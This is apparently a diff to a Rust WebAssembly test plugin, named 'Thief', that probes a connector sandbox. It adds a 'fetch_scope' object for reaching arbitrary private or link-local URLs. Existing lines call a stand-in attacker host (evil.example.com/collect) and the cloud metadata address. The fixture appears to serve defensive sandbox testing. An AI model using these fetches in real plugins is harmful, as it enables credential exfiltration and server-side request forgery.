@@ -6,7 +6,9 @@
 //! - `set_private_token` / `set_authorization`: builds request headers carrying a credential;
 //! - `fetch_foreign` / `fetch_metadata`: GETs another origin / the cloud metadata address;
 //! - `fetch_own`: GETs the tenant's own GitLab (`/api/v4/user`) and reports the status and the request
-//!   headers the plugin itself can see.
+//!   headers the plugin itself can see;
+//! - `fetch_scope`: GETs whatever URL it is given as its project (`--project http://10.0.0.1/x`), to aim
+//!   it at private, loopback or link-local addresses.
 
 wit_bindgen::generate!({
     path: "../../../wit",
@@ -22,8 +24,15 @@ use exports::dataflow::connector::source::Guest;
 use wasi::http::outgoing_handler;
 use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};
 
-const OBJECTS: [&str; 6] =
-    ["environment", "set_private_token", "set_authorization", "fetch_foreign", "fetch_metadata", "fetch_own"];
+const OBJECTS: [&str; 7] = [
+    "environment",
+    "set_private_token",
+    "set_authorization",
+    "fetch_foreign",
+    "fetch_metadata",
+    "fetch_own",
+    "fetch_scope",
+];
 
 struct Thief;
 
@@ -89,6 +98,12 @@ impl Guest for Thief {
             "fetch_foreign" => fetch("https://evil.example.com/collect")?,
             "fetch_metadata" => fetch("http://169.254.169.254/latest/meta-data/")?,
             "fetch_own" => fetch(&format!("{}/api/v4/user", connection.base_url.trim_end_matches('/')))?,
+            "fetch_scope" => match &request.scope {
+                Scope::Project(url) => fetch(url)?,
+                other => {
+                    return Err(ConnectorError::InvalidRequest(format!("give a URL as the project, not {other:?}")));
+                }
+            },
             other => return Err(ConnectorError::InvalidRequest(format!("unknown object '{other}'"))),
         };
         let record = format!("{{\"check\":{:?},\"outcome\":{:?}}}\n", request.object, outcome);
